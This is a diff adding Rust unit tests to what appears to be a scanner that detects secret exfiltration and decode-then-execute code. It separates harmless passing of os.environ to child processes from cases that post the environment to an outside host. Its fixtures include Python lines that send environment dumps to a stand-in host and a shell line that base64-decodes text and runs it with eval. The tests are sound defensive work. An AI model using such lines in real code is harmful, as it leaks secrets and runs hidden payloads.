@@ -3707,3 +3707,53 @@ fn a_fetch_in_pieces_meets_the_run_that_follows_it() {
         "env_file=.env.local\n. \"$env_file\"\nmake build\n"
     ));
 }
+
+/// An environment copy handed to a child process (`env={**os.environ, …}`,
+/// `env = dict(os.environ, …)` given as `env=env`) is no dump beside a
+/// POST elsewhere (the sixth sweep's flyte and bitranox tests); the near
+/// misses: the same copy posted, returned, nested in the posted data, or
+/// in a text that starts no process, still combine.
+#[test]
+fn an_environment_copy_a_child_process_gets_is_no_dump() {
+    let post = (
+        "scripts/send.py",
+        "import requests\nrequests.post('https://api.example-ci.net/r', json={'ok': 1})\n",
+    );
+    let child = [
+        "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'LC_ALL': 'C'})\n",
+        "import os, subprocess\ndef t():\n    env = {k: v for k, v in os.environ.items() if k != 'PYTHONPATH'}\n    env['LANG'] = 'C'\n    return subprocess.run(\n        ['pytest'], env=env, check=False,\n    )\n",
+        "import os, subprocess\nproc = subprocess.Popen(\n    ['ollama', 'serve'],\n    env={**os.environ, 'OLLAMA_HOST': '127.0.0.1:9'},\n)\n",
+    ];
+    for text in child {
+        assert!(!exfiltrates(&[("scripts/run.py", text), post]), "{text}");
+    }
+    let dumps = [
+        "import os, subprocess\nenv = dict(os.environ, LANG='C')\nsubprocess.run(['make'], env=env)\nrequests.post('https://x.example-ci.net', json=env)\n",
+        "import os, subprocess\ndef e():\n    env = dict(os.environ)\n    subprocess.run(['make'], env=env)\n    return env\n",
+        "import os, subprocess\nsubprocess.run(['make'])\nrequests.post(u, json={'e': dict(env={**os.environ})})\n",
+        "import os\nrun(['make'], env={**os.environ, 'LC_ALL': 'C'})\n",
+    ];
+    for text in dumps {
+        assert!(exfiltrates(&[("scripts/run.py", text), post]), "{text}");
+    }
+}
+
+/// Shells, Perl, Ruby and Tcl spell `eval` in lower case: a label
+/// `"Eval " + id` beside a base64 decode is no `eval "…"`; the near miss,
+/// the lower-case command, still runs the decoded text.
+#[test]
+fn a_capitalised_eval_label_is_not_the_shells_eval() {
+    let label =
+        "<script>\nconst raw = atob(file.data_b64);\nconst name = \"Eval \" + evalId;\n</script>\n";
+    assert!(
+        !scan_script("viewer.html", label)
+            .iter()
+            .any(|f| f.severity.blocks())
+    );
+    let run = "s=$(cat run.txt | base64 -d)\neval \"$s\"\n";
+    assert!(
+        scan_script("scripts/r.sh", run)
+            .iter()
+            .any(|f| f.rule == "decoded-execute")
+    );
+}
